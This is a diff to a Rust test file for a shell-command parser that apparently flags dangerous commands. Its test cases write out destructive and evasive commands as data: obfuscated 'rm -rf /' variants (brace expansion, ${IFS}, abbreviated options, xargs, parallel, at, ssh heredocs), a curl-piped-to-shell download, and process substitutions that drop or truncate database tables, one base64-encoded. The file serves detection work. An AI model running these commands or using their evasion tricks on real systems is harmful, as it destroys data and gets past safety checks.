@@ -149,7 +149,7 @@ fn wrappers_are_unwrapped_and_remembered() {
         "chroot /mnt rm -rf /",
         "watch -n 5 rm -rf /",
         "xargs -0 rm -rf /",
-        "parallel rm -rf / ::: a",
+        "parallel rm -rf ::: /",
         "busybox rm -rf /",
         "sh -c 'rm -rf /'",
         "zsh -xc 'rm -rf /'",
@@ -558,4 +558,68 @@ fn embedded_commands_are_parsed() {
     );
     let rm = p.commands.iter().find(|c| c.program == "rm").expect("rm");
     assert!(rm.privileged && rm.remote.as_deref() == Some("prod-vm"));
+}
+
+#[test]
+fn program_words_expand_as_bash_would() {
+    for src in ["{rm,-rf,/}", "rm${IFS}-rf${IFS}/", "x=/; {rm,-rf,$x}"] {
+        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
+    }
+    let p = parse("curl -s https://x.example/i.sh | $SHELL");
+    assert!(
+        p.signals
+            .iter()
+            .any(|s| matches!(s, Signal::DownloadToShell { .. })),
+        "{:?}",
+        p.signals
+    );
+    // A brace list in an argument is not the program word.
+    assert!(has(&parse("cp a.{txt,bak}"), "cp a.{txt,bak}"));
+}
+
+#[test]
+fn long_options_may_be_abbreviated() {
+    assert!(has(&parse("rm --rec --forc /"), RMRF));
+    assert!(has(&parse("git reset --ha HEAD~3"), "git reset --hard HEAD~3"));
+    // Too short, or not a prefix of one known option: left as written.
+    assert!(has(&parse("rm --r /"), "rm --r /"));
+}
+
+#[test]
+fn stdin_and_inputs_become_arguments_or_scripts() {
+    // xargs takes literal words on its stdin as arguments; parallel its `:::` inputs.
+    assert!(has(&parse("xargs rm -rf <<< /"), RMRF));
+    assert!(has(&parse("xargs -a /dev/stdin rm -rf <<< /"), RMRF));
+    assert!(has(&parse("parallel rm -rf ::: /"), RMRF));
+    assert!(has(&parse("parallel rm -rf {} ::: /"), RMRF));
+    // A heredoc on `ssh host bash` is the remote shell's script.
+    let p = parse("ssh prod bash <<'EOF'\nrm -rf /\nEOF");
+    assert_eq!(get(&p, RMRF).remote.as_deref(), Some("prod"));
+    // at and batch read the commands they schedule from stdin.
+    for src in ["echo 'rm -rf /' | batch", "echo 'rm -rf /' | at now + 1 hour"] {
+        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
+    }
+    assert!(!has(&parse("echo 'rm -rf /' | at -l"), RMRF));
+}
+
+#[test]
+fn literal_process_substitutions_are_read_like_heredocs() {
+    let p = parse("bash <(echo 'rm -rf /')");
+    assert!(has(&p, RMRF), "{:?}", canon(&p));
+    for src in [
+        "psql -d app -f <(echo 'DROP TABLE users;')",
+        "mysql app < <(echo 'TRUNCATE TABLE orders')",
+        "psql < <(echo RFJPUCBUQUJMRSB1c2Vyczs= | base64 -d)",
+    ] {
+        let p = parse(src);
+        assert!(
+            p.nested
+                .iter()
+                .any(|n| n.language == NestedLanguage::Sql && n.text.contains("TABLE")),
+            "{src}: {:?}",
+            p.nested
+        );
+    }
+    // Dynamic output stays unknown.
+    assert!(parse("psql -f <(cat q.sql)").nested.is_empty());
 }
